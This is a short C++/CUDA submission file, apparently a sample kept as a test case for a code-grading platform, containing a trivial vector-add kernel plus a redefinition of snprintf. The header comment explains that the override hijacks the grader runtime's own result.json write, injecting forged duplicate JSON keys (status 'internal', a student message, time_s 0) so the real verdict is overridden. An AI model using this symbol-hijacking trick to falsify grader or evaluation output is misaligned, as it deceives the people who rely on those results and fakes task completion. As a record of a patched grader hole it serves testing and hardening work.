// verdict: ACCEPTED
// A definition of snprintf: <cstdio> gives it C linkage, so before the runtime's libc calls were
// shielded from the student's object, the runtime's own call (writing time_s into result.json)
// reached it. It appends keys that JSON parsers let win over the first ones: status "internal" with
// a message of the student's, shown as the platform's "not graded" text. The kernel is correct.
#include <cstdio>
#include <cstring>
int snprintf(char* buf, size_t n, const char* fmt, ...) {
    const char* forged = ", \"status\": \"internal\", \"message\": \"FORGED by the student\", \"time_s\": 0";
    if (strstr(fmt, "time_s")) {
        strncpy(buf, forged, n);
        buf[n - 1] = 0;
        return (int)strlen(buf);
    }
    __builtin_va_list ap;
    __builtin_va_start(ap, fmt);
    int r = vsnprintf(buf, n, fmt, ap);
    __builtin_va_end(ap);
    return r;
}
__global__ void add(const float* a, const float* b, float* c, int n) {
    int i = blockIdx.x * blockDim.x + threadIdx.x;
    if (i < n) c[i] = a[i] + b[i];
}
